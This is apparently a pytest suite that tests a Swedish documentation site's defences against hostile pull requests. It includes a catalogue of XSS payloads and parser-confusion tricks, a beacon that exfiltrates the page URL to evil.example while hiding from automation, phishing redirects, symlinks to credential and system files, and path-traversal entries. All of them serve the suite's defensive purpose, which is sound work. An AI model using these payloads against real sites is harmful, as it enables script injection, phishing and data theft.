"""A pull request cannot hurt readers or the build (tracker issue #16, the
cases of /work/shared/reviews/bad-input-2026-12.md: B1-B6, 2d, 2e, 3i*, 4a-4f, 5d4).

Every hostile input is planted into a throw-away copy of the repository
(`make_repo`), the way a contributor's pull request would carry it. Then
either `python -m scripts check` and the build both refuse it, naming the file
and line, or the site builds and the value is provably inert: it is in the
page as text, and no element, attribute or script it tried to add exists.
Plants are grouped so that few builds run:

- symbolic links (3i, 3i2-3i8): check and build refuse, nothing is read;
- HTML a page may not contain (4a, 4d, 4f): check and build refuse, each
  with its Markdown line;
- bibliography URLs and redirect_from (2d, 4c): check and build refuse;
- a planted inline script in a template: the CSP step refuses it;
- escaped values (4b, 2e, 5d4, a snippet line): one build, inert output,
  also opened in Chromium with navigator.webdriver hidden (an init script,
  as a reader's browser would report it), served plain and with the generated headers: no dialog, no request to another origin, no
  navigation.
"""
from __future__ import annotations

import http.server
import os
import re
import subprocess
import sys
import threading
from html.parser import HTMLParser
from pathlib import Path

import pytest

from conftest import SESSION_DAY, git, headers_handler, run_build
from scripts.build import headers
from scripts.checks import htmlpolicy
from scripts.content import pages

SIS = "docs/sv/roller/sis.md"
HEADING = "## Det här ansvarar SiS för"
FAKE_TOKEN = "AUTHORIZATION: basic FAKE-TOKEN-FOR-TEST"


def check(repo: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "scripts", "check"], cwd=repo, capture_output=True, text=True,
                          env={**os.environ, "KC_TODAY": SESSION_DAY})


def build(repo: Path, site: Path, **env) -> subprocess.CompletedProcess:
    return run_build(repo, site, env={"KC_TODAY": SESSION_DAY, **env})


def no_traceback(result: subprocess.CompletedProcess) -> None:
    assert "Traceback" not in result.stdout + result.stderr, (result.stdout + result.stderr)[-3000:]


def plant_in_body(repo: Path, lines: list[str], rel: str = SIS) -> dict[str, int]:
    """Put `lines` (one paragraph each) before the first section heading; {line: file line number}."""
    path = repo / rel
    text = path.read_text(encoding="utf-8")
    assert HEADING in text
    text = text.replace(HEADING, "\n\n".join(lines) + "\n\n" + HEADING, 1)
    path.write_text(text, encoding="utf-8")
    numbered = text.splitlines()
    return {line: numbered.index(line.splitlines()[0]) + 1 for line in lines}


def a_good_site(site: Path) -> Path:
    """A stand-in for the last good site, which a failed build must keep."""
    site.mkdir(parents=True)
    (site / "index.html").write_text("the last good site", encoding="utf-8")
    return site


def failed_build(repo: Path, tmp_path: Path, **env) -> str:
    """Build over a stand-in for the last good site: the build must fail without a
    traceback and leave that site as it was. Returns the build's output."""
    site = a_good_site(tmp_path / "site")
    built = build(repo, site, **env)
    assert built.returncode != 0
    no_traceback(built)
    assert (site / "index.html").read_text(encoding="utf-8") == "the last good site"
    return built.stdout + built.stderr


# -- B1, 3i: only files from the repository ----------------------------------------------------


def test_symbolic_links_fail_check_and_build_and_nothing_is_published(make_repo, tmp_path):
    repo = make_repo()
    git(repo, "config", "--local", "http.https://github.com/.extraheader", FAKE_TOKEN)
    links = {
        "docs/sv/gitconfig.txt": "../../.git/config",   # committed, relative (3i5)
        "docs/sv/env.txt": "/proc/self/environ",        # the build's environment (3i4)
        "docs/sv/passwd.txt": "/etc/passwd",            # 3i3
        "docs/sv/roller/pw.md": "/etc/passwd",          # a page (3i)
        "docs/sv/etcdir": "/etc",                       # a folder (3i2)
        "docs/sv/dangling.txt": "/no/such/file",        # dangling (3i8)
        "overrides/assets/host.css": "/etc/hostname",
        "data/extra.yml": "/etc/passwd",
    }
    for rel, target in links.items():
        os.symlink(target, repo / rel)
    git(repo, "add", "docs/sv/gitconfig.txt")
    git(repo, "commit", "-q", "-m", "A pull request carrying a symlink")

    result = check(repo)
    assert result.returncode == 1
    no_traceback(result)
    for rel in links:
        assert re.search(rf"^{re.escape(rel)}: ERROR is a symbolic link", result.stdout, re.M), (rel, result.stdout)
    assert "commit it" in result.stdout  # how to fix: the real file

    site = a_good_site(tmp_path / "site")
    result = build(repo, site)
    assert result.returncode != 0
    no_traceback(result)
    for rel in links:
        assert f"{rel}: ERROR is a symbolic link" in result.stderr + result.stdout, rel
    assert (site / "index.html").read_text(encoding="utf-8") == "the last good site"
    assert not (site / "gitconfig.txt").exists() and not list(tmp_path.glob(".site-new-*"))


# -- B2, B5: HTML a page may not contain (4a, 4d, 4f) ------------------------------------------

REFUSED = {
    # line planted in the Markdown -> words the error must contain
    "<script>alert('body-script')</script>": "<script>",
    "<script>if(!navigator.webdriver){new Image().src='https://evil.example/beacon?'"
    "+encodeURIComponent(location.href)}</script>": "<script>",
    '<meta http-equiv="refresh" content="45;url=https://evil.example/phish">': "<meta>",
    '<base href="https://evil.example/">': "<base>",
    "<iframe src=https://evil.example/frame></iframe>": "<iframe>",
    "<style>body{display:none}</style>": "<style>",
    "<form action=https://evil.example><input name=q></form>": "<form>",
    '<object data="https://evil.example/x.swf"></object>': "<object>",
    '<embed src="https://evil.example/x.swf">': "<embed>",
    '<link rel="stylesheet" href="https://evil.example/x.css">': "<link>",
    '<svg><circle onload="alert(1)"></circle></svg>': "<svg>",
    "[Läs mer](javascript:alert(document.domain))": "scheme javascript:",
    '<a href="jav&#x61;script:alert(2)">Entity</a>': "scheme javascript:",
    '<a href="  java&#9;script:alert(3)">Tab</a>': "scheme javascript:",
    '<a href="data:text/html,<script>alert(4)</script>">Data</a>': "scheme data:",
    '<a href="VBScript:msgbox(5)">VB</a>': "scheme vbscript:",
    "![Bild](https://evil.example/x.png)": "loads a file from another web site",
    '<img src="//evil.example/p.png" alt="">': "loads a file from another web site",
    '<img src="bild.png" srcset="https://evil.example/a.png 2x" alt="">': "loads a file from another web site",
    '<video src="https://evil.example/v.mp4"></video>': "<video>",
    '<p title="x" onmouseover="alert(6)">Hover</p>': "onmouseover",
    '### En rubrik med attributlista {: onclick="alert(7)" }': "onclick",
    '<p style="position:fixed;top:0">Över allt</p>': "style attribute",
    # Comments a browser ends earlier than Python's parser would.
    "<!--> <img src=x onerror=alert(8)> -->": "HTML comment",
    "<!---> <img src=x onerror=alert(9)> -->": "HTML comment",
}


def test_html_a_page_may_not_contain_fails_check_and_build_with_its_line(make_repo, tmp_path):
    repo = make_repo()
    lines = plant_in_body(repo, list(REFUSED))
    result = check(repo)
    assert result.returncode == 1
    no_traceback(result)
    log = failed_build(repo, tmp_path)
    for planted, words in REFUSED.items():
        line = lines[planted]
        for output in (result.stdout, log):
            found = [row for row in output.splitlines() if f"{SIS}:{line}: ERROR" in row]
            assert found and any(words in row for row in found), (planted, line, found)
            assert all("How to fix:" in row for row in found)


ALLOWED_MARKDOWN = """\
# Rubrik

Text med *betoning*, **fetstil**, `kod`, H~2~O, x^2^, en [länk](../index.md), en
[extern länk](https://www.riksdagen.se/), [e-post](mailto:info@example.se) och [telefon](tel:112).
Rad<br>bryt, <abbr title="Statens institutionsstyrelse">SiS</abbr>, <sup>1</sup> och <sub>2</sub>.

!!! note "Obs"
    En ruta.

??? info "Mer"
    En ruta som öppnas.

<details><summary>Visa</summary><p>Dolt</p></details>

| Vänster | Höger |
|:--------|------:|
| a       | 1     |

Term
:   Förklaring.

- [x] Klart
- [ ] Inte klart

En fotnot.[^1]

[^1]: Fotnoten.

Ett stycke med id och klass.
{: #stycke .viktigt }

![Karta](../bilder/karta.png){: width="200" }

```python
print("<script>")
```

<!-- a plain comment -->
"""


def _policy(markdown: str) -> list:
    from scripts.checks import mdlinks
    page = pages.parse("---\ntitle: x\n---\n" + markdown, Path("x.md"), "docs/sv/x.md", "sv", "x.md")
    root = Path(__file__).resolve().parent.parent
    return htmlpolicy.check_html(mdlinks.render(page, root), page.rel, page.body, page.body_line)


def test_the_markup_the_guidance_needs_is_allowed():
    assert _policy(ALLOWED_MARKDOWN) == []


def test_the_policy_refuses_each_case_on_its_own():
    # The same table, one case at a time, without a build (a case missed by
    # the grouped build test would hide behind the others).
    for planted, words in REFUSED.items():
        found = _policy(f"Text.\n\n{planted}\n")
        assert found and any(words in p.problem for p in found), (planted, found)
        assert all(p.line == 6 for p in found if words in p.problem), (planted, [str(p) for p in found])


def test_html_in_an_earlier_version_fails_the_build_too(make_repo, tmp_path):
    """The archive publishes every superseded version from the git history: a
    pull request whose first commit plants a script and whose last removes it
    would otherwise publish the script at /arkiv/roller/sis/1.1/."""
    repo = make_repo()
    page = repo / SIS
    original = page.read_text(encoding="utf-8")

    def version(number: str, note: str, body_line: str) -> None:
        text = page.read_text(encoding="utf-8")
        text = re.sub(r'^version: .*$', f'version: "{number}"', text, count=1, flags=re.M)
        text = text.replace("changes:\n", f'changes:\n  - version: "{number}"\n    date: 2026-12-01\n'
                            f"    note: {note}\n", 1)
        page.write_text(text.replace(HEADING, body_line + "\n\n" + HEADING, 1), encoding="utf-8")
        git(repo, "add", "-A")
        git(repo, "commit", "-q", "-m", f"Version {number}", date="2026-12-01")

    # Versions above the page's own, dated on the day of its newest change.
    version("9.1", "Ett tillägg.", "<script>alert('history')</script>")
    line = page.read_text(encoding="utf-8").splitlines().index("<script>alert('history')</script>") + 1
    page.write_text(page.read_text(encoding="utf-8").replace("<script>alert('history')</script>\n\n", ""),
                    encoding="utf-8")
    version("9.2", "Tillägget är borttaget.", "")
    assert "<script>" not in page.read_text(encoding="utf-8") and original != page.read_text(encoding="utf-8")
    assert check(repo).returncode == 0  # the current text is clean
    log = failed_build(repo, tmp_path)
    assert (f"{SIS}:{line}: ERROR in version 9.1 (from the git history, published in the archive): "
            "the HTML element <script> is not allowed") in log, log[-3000:]


# Inputs where a browser and a simple parser can disagree about what is markup.
TRICKY = [
    "<img/src=x/onerror=alert(1)>", '<img src="a.png"/onerror=alert(1)>', "<img src=a.png\tonerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>", "<img src=x onerror\n=alert(1)>", '<img src="a.png" ="" onerror="alert(1)">',
    '<img src="a.png"onerror="alert(1)">', "<img src=x onerror=alert(1)//", "<svg/onload=alert(1)>",
    "<!--> <img src=x onerror=alert(1)> -->", "<!---> <img src=x onerror=alert(1)> -->",
    "<!-- a --!> <img src=x onerror=alert(1)> -->", "<? <img src=x onerror=alert(1)> ?>",
    "<!x <img src=x onerror=alert(1)>>", "<![CDATA[ <img src=x onerror=alert(1)> ]]>",
    "<scr<script>ipt>alert(1)</script>", "<textarea><img src=x onerror=alert(1)></textarea>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    '<a href="javascript&colon;alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="ja\nvascript:alert(1)">x</a>', '<a href="&#0;javascript:alert(1)">x</a>',
    "[x](<javascript:alert(1)>)", "[x]: javascript:alert(1)\n\n[y][x]", "<a href=javascript:alert(1)//>x</a>",
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<p>x</p><style>p{color:red}</style>', '<div markdown="1"><img src=x onerror=alert(1)></div>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<table><tr><td><img src=x onerror=alert(1)></td></tr></table>',
    '`<img src=x onerror=alert(1)>` and &lt;script&gt;',
    '<a href="java&Tab;script:alert(1)">x</a>', "<javascript:alert(1)>", "[x](javascript:alert&#40;1&#41;)",
    '![a](b.png "x\\" onerror=\\"alert(1)")', '<img src="javascript:alert(1)">', "<input autofocus onfocus=alert(1)>",
    '<button type="button" formaction="javascript:alert(1)">x</button>', "<iframe srcdoc='<script>alert(1)</script>'>",
    '<a href="#" id="x" onclick="alert(1)">x</a>', "<p>a</p>\n<script\n>alert(1)</script\n>", "<ScRiPt>alert(1)</sCrIpT>",
    '<div class="x"\nonmouseover="alert(1)">x</div>', "*[HTML]: <img src=x onerror=alert(1)>\n\nHTML",
    "## Rubrik {: onclick=alert(1) }", '<a href="x" {: onclick=alert(1) }>x</a>',
]
DANGER_JS = """() => {
  const out = [];
  const bad = ['script', 'style', 'iframe', 'frame', 'object', 'embed', 'base', 'meta', 'link', 'form',
               'svg', 'math', 'video', 'audio', 'source', 'template', 'noscript'];
  for (const el of document.body.querySelectorAll('*')) {
    const tag = el.localName;
    if (bad.includes(tag)) out.push(tag);
    for (const a of el.attributes) {
      const value = a.value.replace(/[\\x00-\\x20]/g, '');
      if (a.name.startsWith('on')) out.push(tag + '[' + a.name + ']');
      if (a.name === 'style') out.push(tag + '[style]');
      if (/href$|^src$|srcset|action/.test(a.name) && /^(javascript|data|vbscript):/i.test(value))
        out.push(tag + '[' + a.name + '=' + a.value + ']');
    }
  }
  return out;
}"""


@pytest.mark.browser
def test_whatever_chromium_would_treat_as_active_markup_the_policy_refuses(browser):
    """The policy reads HTML with Python's parser; a reader's browser reads it
    with its own. For every input here and in REFUSED, the HTML Markdown makes
    of it is loaded into Chromium: if Chromium finds a script, an event handler,
    a frame, a style, a <base>/<meta>/<link> or a javascript:/data: address in
    it, the policy must have refused it."""
    from scripts.checks import mdlinks
    root = Path(__file__).resolve().parent.parent
    context = browser.new_context()
    context.route("**/*", lambda route: route.abort())  # nothing is fetched
    page = context.new_page()
    page.on("dialog", lambda d: d.dismiss())
    missed = []
    try:
        for src in TRICKY + list(REFUSED):
            md = pages.parse("---\ntitle: x\n---\nText.\n\n" + src + "\n\nMer.\n", Path("x.md"), "docs/sv/x.md",
                             "sv", "x.md")
            body = mdlinks.render(md, root)
            refused = htmlpolicy.check_html(body, md.rel, md.body, md.body_line)
            page.set_content("<!doctype html><html><head><title>t</title></head><body>" + body + "</body></html>")
            found = page.evaluate(DANGER_JS)
            if found and not refused:
                missed.append((src, body, found))
    finally:
        context.close()
    assert not missed, missed


# -- 2d, 4c: addresses and paths in metadata -----------------------------------------------------


def test_bad_urls_and_redirect_paths_fail_check_and_build(make_repo, tmp_path):
    repo = make_repo()
    bib = repo / "data/bibliography.yml"
    text = bib.read_text(encoding="utf-8")
    key = "sis-2023-uppdraget-delredovisat:"
    start = text.index("\n" + key) + 1
    url_at = text.index("\n  url: ", start) + 1
    end = text.index("\n", url_at)
    bad_url = """'https://x.se/"><script>alert(1)</script><img/src=x/onerror=alert(2)>'"""
    bib.write_text(text[:url_at] + f"  url: {bad_url}" + text[end:], encoding="utf-8")
    bib_line = text[:start].count("\n") + 1
    outside = tmp_path / "outside"
    page = repo / SIS
    meta = page.read_text(encoding="utf-8")
    redirects = ['"../../../../../../../../../..' + str(outside) + '/pwned.md"', '"https://evil.example/x.md"',
                 '"javascript:alert(1)"', '"/etc/x.md"']
    meta = meta.replace("\nkeywords:", f"\nredirect_from: [{', '.join(redirects)}]\nkeywords:", 1)
    page.write_text(meta, encoding="utf-8")
    redirect_line = meta.splitlines().index(next(l for l in meta.splitlines() if l.startswith("redirect_from"))) + 1
    # An entry naming a page that exists is refused too (it used to be ignored).
    polisen = repo / "docs/sv/roller/polisen.md"
    ptext = polisen.read_text(encoding="utf-8").replace("\nkeywords:", "\nredirect_from: [roller/sis.md]\nkeywords:", 1)
    polisen.write_text(ptext, encoding="utf-8")
    polisen_line = ptext.splitlines().index("redirect_from: [roller/sis.md]") + 1

    result = check(repo)
    assert result.returncode == 1
    no_traceback(result)
    log = failed_build(repo, tmp_path)
    for output in (result.stdout, log):
        assert f"data/bibliography.yml:{bib_line}: ERROR field 'sis-2023-uppdraget-delredovisat.url': malformed URL" \
            in output
        row = next(r for r in output.splitlines() if f"{SIS}:{redirect_line}: ERROR field 'redirect_from'" in r)
        for entry in ("pwned.md", "https://evil.example/x.md", "javascript:alert(1)", "/etc/x.md"):
            assert entry in row, (entry, row)
        assert "How to fix:" in row
        assert (f"docs/sv/roller/polisen.md:{polisen_line}: ERROR field 'redirect_from': 'roller/sis.md' is the "
                "address of an existing page") in output
    assert not outside.exists()


def test_the_redirect_writer_refuses_a_path_outside_the_site(tmp_path):
    from scripts.build import changes
    site = tmp_path / "site"
    site.mkdir()
    with pytest.raises(changes.UnsafeRedirect, match="outside the site folder"):
        changes._write_redirect(site, site / "../../pwned/index.html", "x/", "sv")
    assert not (tmp_path.parent / "pwned").exists()
    changes._write_redirect(site, site / "gammal/index.html", "../ny/", "sv")
    assert (site / "gammal/index.html").exists()


# -- B2: the CSP step --------------------------------------------------------------------------------


def test_an_inline_script_in_a_template_fails_the_build_naming_the_pages(make_repo, tmp_path):
    repo = make_repo()
    partial = repo / "overrides/partials/kc-contribute.html"
    partial.write_text(partial.read_text(encoding="utf-8") + "\n<script>alert('template')</script>\n",
                       encoding="utf-8")
    log = failed_build(repo, tmp_path)
    row = next(r for r in log.splitlines() if "inline script \"alert('template')\" on " in r)
    assert re.search(r"on (\d+) page\(s\): anhoriga/index\.html, ", row) and int(re.search(r"on (\d+) page", row)[1]) > 100, row
    assert "does not allow" in log and "How to fix:" in log


# -- B3, B4, 5d4, 3i7: values are escaped, and the escaped site is inert ------------------------------------

TITLE = 'SiS</title><script>alert("title")</script><b x="'
DESCRIPTION = "\"><script>alert('desc')</script><img src=x onerror=alert('desc-img')> SiS hittar unga"
NOTE = "Första <img src=x onerror=alert('note')> versionen."
KEYWORD = '<script>alert("kw")</script>'
BIB_TITLE = "Uppdraget <img src=x onerror=alert(3)>"
BIB_PUBLISHER = "SiS <svg onload=alert(8)>"
GLOSSARY = "<img src=x onerror=alert(10)> Lagen som styr"
STRING = "Om <img src=x onerror=alert(11)> sidan"            # data/strings.yml facts_heading
LABEL = "Statens <img src=x onerror=alert(12)> (SiS)"        # data/lists.yml, responsible sis
# The 4f payloads as a reader's text: in inline code and escaped in Markdown.
ESCAPED_BODY = [
    "Koden `<script>if(!navigator.webdriver){new Image().src='https://evil.example/beacon'}</script>` visas som text.",
    "Text: &lt;meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/phish\"&gt; och "
    "&lt;base href=\"https://evil.example/\"&gt;.",
    "```\n--8<-- \".git/config\"\n```",
]


def _yaml(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def plant_values(repo: Path) -> None:
    git(repo, "config", "--local", "http.https://github.com/.extraheader", FAKE_TOKEN)
    page = repo / SIS
    text = page.read_text(encoding="utf-8")
    text = re.sub(r"^title: .*$", "title: " + _yaml(TITLE), text, count=1, flags=re.M)
    text = re.sub(r"^description: .*$", "description: " + _yaml(DESCRIPTION), text, count=1, flags=re.M)
    text = text.replace("keywords: [", "keywords: [" + _yaml(KEYWORD) + ", ", 1)
    text = text.replace("note: Första versionen.", "note: " + _yaml(NOTE), 1)
    page.write_text(text, encoding="utf-8")
    plant_in_body(repo, ESCAPED_BODY)
    bib = repo / "data/bibliography.yml"
    text = bib.read_text(encoding="utf-8")
    start = text.index("\nsis-2023-uppdraget-delredovisat:") + 1
    for name, value in (("title", BIB_TITLE), ("publisher", BIB_PUBLISHER)):
        at = text.index(f"\n  {name}: ", start) + 1
        text = text[:at] + f"  {name}: {_yaml(value)}" + text[text.index(chr(10), at):]
    bib.write_text(text, encoding="utf-8")
    glossary = repo / "data/glossary.yml"
    text = glossary.read_text(encoding="utf-8")
    assert 'definition: "Lagen som styr' in text
    glossary.write_text(text.replace('definition: "Lagen som styr', 'definition: "' + GLOSSARY.replace('"', '\\"'), 1),
                        encoding="utf-8")
    for rel, old, new in (("data/strings.yml", "facts_heading: {sv: Om den här sidan,", f"facts_heading: {{sv: {_yaml(STRING)},"),
                          ("data/lists.yml", "sis: {sv: Statens institutionsstyrelse (SiS),", f"sis: {{sv: {_yaml(LABEL)},")):
        path = repo / rel
        text = path.read_text(encoding="utf-8")
        assert old in text, rel
        path.write_text(text.replace(old, new, 1), encoding="utf-8")


class _Elements(HTMLParser):
    """Every element with its attributes, and the text of <title>, as a browser reads them."""

    def __init__(self):
        super().__init__()
        self.elements: list[tuple[str, dict]] = []
        self.titles: list[str] = []
        self._in_title = False

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        self._in_title = tag == "title"

    def handle_endtag(self, tag):
        self._in_title = False

    def handle_data(self, data):
        if self._in_title:
            self.titles.append(data)


def elements(path: Path) -> _Elements:
    parser = _Elements()
    parser.feed(path.read_text(encoding="utf-8"))
    return parser


@pytest.fixture(scope="module")
def planted_site(tmp_path_factory):
    """The repository with every escaped-value plant, built once for the
    origin of its own server (so absolute links stay on this origin)."""
    from conftest import copy_repo, serve
    base = tmp_path_factory.mktemp("untrusted")
    repo = copy_repo(base / "repo")
    plant_values(repo)
    site = base / "site"
    httpd = serve(site)
    origin = f"http://127.0.0.1:{httpd.server_address[1]}/"
    result = build(repo, site, SITE_URL=origin)
    if result.returncode != 0:
        httpd.shutdown()
        pytest.fail("the planted site does not build:\n" + (result.stdout + result.stderr)[-4000:])
    yield site, origin, repo
    httpd.shutdown()


def test_check_accepts_the_escaped_values(planted_site):
    # These are texts, not markup: they are accepted and shown as written.
    result = check(planted_site[2])
    no_traceback(result)
    assert result.returncode == 0, result.stdout[-3000:]


def test_every_value_is_text_in_the_built_site(planted_site):
    site = planted_site[0]
    files = [p for p in site.rglob("*.html") if "pagefind" not in p.parts]
    live = []
    for path in files:
        for tag, attrs in elements(path).elements:
            handlers = [name for name in attrs if name.startswith("on")]
            if handlers or (tag == "img" and attrs.get("src") == "x") or (tag == "b" and "x" in attrs) \
                    or (tag in ("svg", "base", "iframe", "meta", "a", "img", "link") and "evil" in str(attrs)):
                live.append((path.relative_to(site).as_posix(), tag, attrs))
    assert not live, live[:10]
    # No inline script at all (the build would have failed otherwise).
    for path in files:
        assert not headers.inline_scripts(path.read_text(encoding="utf-8")), path

    sis = elements(site / "roller/sis/index.html")
    assert "".join(sis.titles).startswith(TITLE + " - ")                      # <title>, as text
    assert ("meta", {"name": "description", "content": DESCRIPTION}) in sis.elements
    html = (site / "roller/sis/index.html").read_text(encoding="utf-8")
    for value in (NOTE, BIB_TITLE, BIB_PUBLISHER):                             # history, sources
        assert value.replace("<", "&lt;").replace(">", "&gt;").replace("'", "&#39;") in html, value
    assert FAKE_TOKEN not in html and "extraheader" not in html                # the snippet is text
    import html as html_module
    assert '--8<-- ".git/config"' in html_module.unescape(html)
    # The menu of every Swedish page, the home page and 404 carry the title as text.
    for rel in ("index.html", "404.html", "nytt/index.html", "roller/index.html"):
        assert "SiS&lt;/title&gt;&lt;script&gt;" in (site / rel).read_text(encoding="utf-8"), rel
    facts = sis.elements
    assert html.count("Om &lt;img src=x onerror=alert(11)&gt; sidan") >= 1                # a UI string
    assert "Statens &lt;img src=x onerror=alert(12)&gt; (SiS)" in html                   # a list label
    assert facts and "Om &lt;img src=x onerror=alert(11)&gt; sidan" in (site / "index.html").read_text("utf-8")
    glossary = (site / "ordlista/index.html").read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=alert(10)&gt; Lagen som styr" in glossary
    assert "Uppdraget &lt;img src=x onerror=alert(3)&gt;" in (site / "kunskap/kallor/index.html").read_text("utf-8")


PAGES = ["roller/sis/", "", "nytt/", "ordlista/", "kunskap/kallor/", "om/oversattningsstatus/", "en/roller/sis/"]


@pytest.mark.browser
@pytest.mark.parametrize("served", ["plain", "with headers"])
def test_the_planted_site_is_inert_in_a_browser_that_hides_automation(browser, planted_site, served):
    site, origin, _ = planted_site
    httpd = None
    if served == "with headers":
        rules = headers.parse_headers_file((site / headers.HEADERS_FILE).read_text(encoding="utf-8"))
        handler = headers_handler(rules, site)
        httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        threading.Thread(target=httpd.serve_forever, daemon=True).start()
        origin = f"http://127.0.0.1:{httpd.server_address[1]}/"
    dialogs, foreign, navigations = [], [], []
    context = browser.new_context()
    try:
        # Payloads that test navigator.webdriver see an ordinary browser.
        context.add_init_script("Object.defineProperty(navigator, 'webdriver', {get: () => false})")
        page = context.new_page()
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.on("request", lambda r: foreign.append(r.url) if not r.url.startswith(("data:", "blob:"))
                and not r.url.startswith("http://127.0.0.1:") else None)
        page.on("framenavigated", lambda f: navigations.append(f.url) if f == page.main_frame else None)
        for path in PAGES:
            response = page.goto(origin + path, wait_until="load")
            assert response.ok, path
            if served == "with headers":
                assert "content-security-policy" in response.headers
            assert page.evaluate("navigator.webdriver") is False
            # A refresh of 0 seconds or a script's request would have happened by now.
            page.wait_for_load_state("networkidle")
            assert page.url == origin + path, (path, page.url)
    finally:
        context.close()
        if httpd:
            httpd.shutdown()
    assert not dialogs, dialogs
    assert not foreign, foreign
    assert navigations == [origin + p for p in PAGES], navigations
